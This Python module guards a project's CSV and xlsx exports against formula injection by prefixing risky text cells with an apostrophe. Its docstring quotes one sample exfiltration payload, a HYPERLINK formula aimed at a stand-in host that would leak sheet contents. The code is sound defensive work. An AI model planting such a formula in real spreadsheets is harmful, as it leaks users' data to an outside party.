"""Spreadsheet cells that cannot run: the one rule every CSV and xlsx the project writes applies.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, WPS and LibreOffice (OWASP, "CSV Injection"): a case title such as
``=HYPERLINK("http://evil.example/?x="&A1,"open")`` would become a live link that leaks the
sheet. Such cells get a leading apostrophe, which spreadsheet programs show as plain text.
Numbers, dates and booleans are written as they are: they are data, not text a party typed.

Exports write through :class:`CsvLines` and :class:`SafeWorkbook`, which apply the rule to every
cell they are given, so a new column or sheet cannot forget it.
"""

import csv

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """Return ``value`` fit for a CSV or xlsx cell: text that would start a formula is quoted."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    """Return one row of cells, each through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


# --- CSV ------------------------------------------------------------------------------------------


class _Echo:
    """A file-like object whose write returns the line instead of storing it."""

    def write(self, value: str) -> str:
        return value


class CsvLines:
    """A CSV writer for streaming: ``writerow`` returns the line, every cell through safe_cell."""

    def __init__(self, **fmtparams):
        self._writer = csv.writer(_Echo(), **fmtparams)

    def writerow(self, values) -> str:
        return self._writer.writerow(safe_row(values))


# --- xlsx -----------------------------------------------------------------------------------------


def _safe_xlsx_cell(value):
    # An openpyxl cell (one given a number format or a style) is quoted in place: assigning its
    # value again makes openpyxl type it as text ("s") instead of a formula ("f").
    if hasattr(value, "data_type") and hasattr(value, "value"):
        if isinstance(value.value, str):
            value.value = safe_cell(value.value)
        return value
    return safe_cell(value)


class SafeSheet:
    """A write-only openpyxl worksheet whose ``append`` quotes every text cell that would run."""

    def __init__(self, sheet):
        object.__setattr__(self, "_sheet", sheet)

    def append(self, row) -> None:
        self._sheet.append([_safe_xlsx_cell(value) for value in row])

    def __getattr__(self, name):
        return getattr(self._sheet, name)

    def __setattr__(self, name, value):
        setattr(self._sheet, name, value)


class SafeWorkbook:
    """An openpyxl write-only workbook whose sheets are :class:`SafeSheet`."""

    def __init__(self):
        from openpyxl import Workbook

        self.workbook = Workbook(write_only=True)

    def create_sheet(self, title: str) -> SafeSheet:
        return SafeSheet(self.workbook.create_sheet(title))

    def save(self, fileobj) -> None:
        self.workbook.save(fileobj)
